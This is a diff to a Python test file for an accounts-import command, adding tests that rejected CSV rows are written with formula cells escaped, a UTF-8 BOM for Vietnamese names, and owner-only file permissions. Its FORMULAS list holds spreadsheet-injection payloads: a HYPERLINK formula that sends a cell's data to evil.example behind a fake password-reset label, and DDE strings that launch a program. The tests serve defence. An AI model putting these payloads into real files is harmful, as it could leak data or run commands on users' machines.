@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import json
+import os
+import stat
 import subprocess
 import sys
 from pathlib import Path
@@ -114,10 +117,70 @@ def test_import_reports_rejects_with_line_numbers_and_exits_zero(
     status, out, _ = run(capsys, "accounts", "import", str(source), "--rejects", str(rejects))
 
     assert status == 0 and out.strip() == f"imported 1, updated 0, rejected 1 (see {rejects})"
-    with rejects.open(encoding="utf-8") as handle:
+    with rejects.open(encoding="utf-8-sig", newline="") as handle:
         written = list(csv.reader(handle))
     assert written[0][:2] == ["line", "reason"]
     assert written[1][:3] == ["3", "ma_so_bhxh must be exactly 10 digits", "12345"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&E2,"Đặt lại mật khẩu")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+def import_rejects(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
+    """Import a file whose rows are all rejected (bad code) and hold spreadsheet formulas."""
+    run(capsys, "db", "upgrade")
+    source = tmp_path / "accounts.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle, lineterminator="\n")
+        writer.writerow(["ma_so_bhxh", "ho_ten", "so_dien_thoai", "email", "da_dang_ky_gddt"])
+        writer.writerow(["12345", "Nguyễn Thị Ánh Tuyết", "0912345678", "", "1"])
+        writer.writerows(["12345", formula, "0912345678", "", "1"] for formula in FORMULAS)
+    rejects = tmp_path / "rejects.csv"
+    status, out, _ = run(capsys, "accounts", "import", str(source), "--rejects", str(rejects))
+    assert status == 0 and out.startswith(f"imported 0, updated 0, rejected {1 + len(FORMULAS)}")
+    return rejects
+
+
+def test_rejected_cells_that_a_spreadsheet_would_run_are_written_as_text(
+    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rejects = import_rejects(capsys, tmp_path)
+
+    with rejects.open(encoding="utf-8-sig", newline="") as handle:
+        names = [row[3] for row in csv.reader(handle)][1:]
+    assert names == ["Nguyễn Thị Ánh Tuyết", *(f"'{formula}" for formula in FORMULAS)]
+
+
+def test_the_rejects_file_is_utf8_with_a_bom_so_excel_shows_vietnamese(
+    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    written = import_rejects(capsys, tmp_path).read_bytes()
+
+    assert written.startswith(codecs.BOM_UTF8 + b"line,reason,ma_so_bhxh")
+    assert "Nguyễn Thị Ánh Tuyết".encode() in written
+
+
+@pytest.mark.parametrize("existing", [False, True], ids=["new-file", "world-readable-file"])
+def test_the_rejects_file_is_readable_by_its_owner_only_whatever_the_umask(
+    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], existing: bool
+) -> None:
+    if existing:
+        (tmp_path / "rejects.csv").write_text("old rejects\n", encoding="utf-8")
+        (tmp_path / "rejects.csv").chmod(0o666)
+    previous = os.umask(0)
+    try:
+        rejects = import_rejects(capsys, tmp_path)
+    finally:
+        os.umask(previous)
+
+    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
+    assert b"old rejects" not in rejects.read_bytes()
 
 
 @pytest.mark.parametrize(
